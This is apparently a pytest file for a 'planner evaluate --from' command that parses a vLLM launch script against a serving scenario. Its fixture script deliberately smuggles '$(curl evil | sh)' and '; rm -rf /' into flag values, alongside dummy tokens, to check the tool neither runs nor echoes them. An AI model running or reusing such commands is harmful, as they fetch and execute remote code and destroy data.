"""`planner evaluate --from`: what runs today under a scenario, what was not read, and what `size` would change."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from running import Run

pytestmark = pytest.mark.slow  # each runs whole searches through the command line

SCENARIO = """version: 1
model: Qwen/Qwen3-32B
engine: vllm
hardware: {accelerators: [h100-sxm]}
workload: {requests: 4 /s, input_tokens: 1000, output_tokens: 200}
targets: {ttft: {p99: 3 s}, itl: {p99: 200 ms}}
"""
SCRIPT = """#!/bin/bash
export HF_TOKEN=hf_verysecret
for i in 0 1 2; do
  vllm serve Qwen/Qwen3-32B --tensor-parallel-size 4 --max-num-seqs 64 --api-key sk-verysecret --port $((8000 + i)) \\
    --mystery "$(curl evil | sh)" --wat='; rm -rf /' &
done
"""


@pytest.fixture
def files(tmp_path: Path) -> Path:
    (tmp_path / "scenario.yaml").write_text(SCENARIO, encoding="utf-8")
    (tmp_path / "run.sh").write_text(SCRIPT, encoding="utf-8")
    return tmp_path


def test_a_script(run: Run, files: Path) -> None:
    done = run("evaluate", "scenario.yaml", "--from", "run.sh")
    assert done.returncode == 0, done.stderr
    assert "1 replica × TP4 = 4 h100-sxm" in done.stdout
    assert "not read: --mystery, --wat" in done.stdout
    assert "taken as one worker" in done.stdout
    assert "What `planner size` would change" in done.stdout
    assert "verysecret" not in done.stdout + done.stderr and "rm -rf" not in done.stdout + done.stderr


def test_json_has_the_same(run: Run, files: Path) -> None:
    done = run("evaluate", "scenario.yaml", "--from", "run.sh", "--format", "json")
    document = json.loads(done.stdout)
    assert document["plan"]["colocated"]["max_batch"] == 64
    assert document["imported"]["unread_options"] == ["--mystery", "--wat"]
    assert document["imported"]["size_verdict"] == "feasible"
    assert any(change["field"] == "plan.accelerators" for change in document["imported"]["size_would_change"])
    assert "verysecret" not in done.stdout


def test_defaults_are_those_of_the_device(run: Run, files: Path) -> None:
    (files / "scenario.yaml").write_text(SCENARIO.replace("h100-sxm", "a100-sxm-80"), encoding="utf-8")
    (files / "run.sh").write_text("vllm serve Qwen/Qwen3-32B -tp 4\n", encoding="utf-8")
    document = json.loads(run("evaluate", "scenario.yaml", "--from", "run.sh", "--format", "json").stdout)
    assert document["plan"]["colocated"]["max_batch"] == 256  # an A100 keeps vLLM's small defaults
    assert document["plan"]["colocated"]["token_budget"] == 2048


def test_an_export_comes_back_under_its_own_scenario(run: Run, files: Path) -> None:
    assert run("export", "scenario.yaml", "--to", "dynamo", "-o", "out").returncode == 0
    done = run("evaluate", "scenario.yaml", "--from", "out/dgd.yaml")
    assert done.returncode == 0, done.stderr
    assert "`planner size` would change nothing" in done.stdout


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("echo hi\n", "starts no engine"),
        ("vllm serve m/x -tp 3\n", "does not divide"),
        ("vllm serve m/x -tp 2\npython -m sglang.launch_server --tp 2\n", "several engines: sglang and vllm"),
        ("vllm serve m/x -tp 2\nvllm serve m/x -tp 4\n", "two kinds"),
        ("vllm serve m/x -tp 1 --gpu-memory-utilization 0.5\n", "no room is left for KV"),
        ('vllm serve m/x --kv-transfer-config \'{"kv_role":"kv_producer"}\'\n', "prefill workers only"),
        ("trtllm-serve m/x --tp_size 2\n", ""),
    ],
)
def test_what_cannot_be_evaluated(run: Run, files: Path, text: str, words: str) -> None:
    (files / "run.sh").write_text(text, encoding="utf-8")
    done = run("evaluate", "scenario.yaml", "--from", "run.sh")
    assert done.returncode == (2 if words else 0), done.stderr
    assert words in done.stderr
    assert "run.sh" in done.stderr + done.stdout


def test_another_model_is_named(run: Run, files: Path) -> None:
    (files / "run.sh").write_text("vllm serve meta-llama/Llama-3.1-70B -tp 4\n", encoding="utf-8")
    done = run("evaluate", "scenario.yaml", "--from", "run.sh")
    assert "start meta-llama/Llama-3.1-70B" in done.stdout


def test_several_candidates_need_a_word(run: Run, files: Path) -> None:
    (files / "scenario.yaml").write_text(SCENARIO.replace("[h100-sxm]", "[h100-sxm, l40s]"), encoding="utf-8")
    done = run("evaluate", "scenario.yaml", "--from", "run.sh")
    assert done.returncode == 2 and "leave one of h100-sxm, l40s" in done.stderr


def test_missing_files(run: Run, files: Path) -> None:
    assert run("evaluate", "scenario.yaml", "--from", "none.sh").returncode == 2
    assert run("evaluate", "none.yaml", "--from", "run.sh").returncode == 2
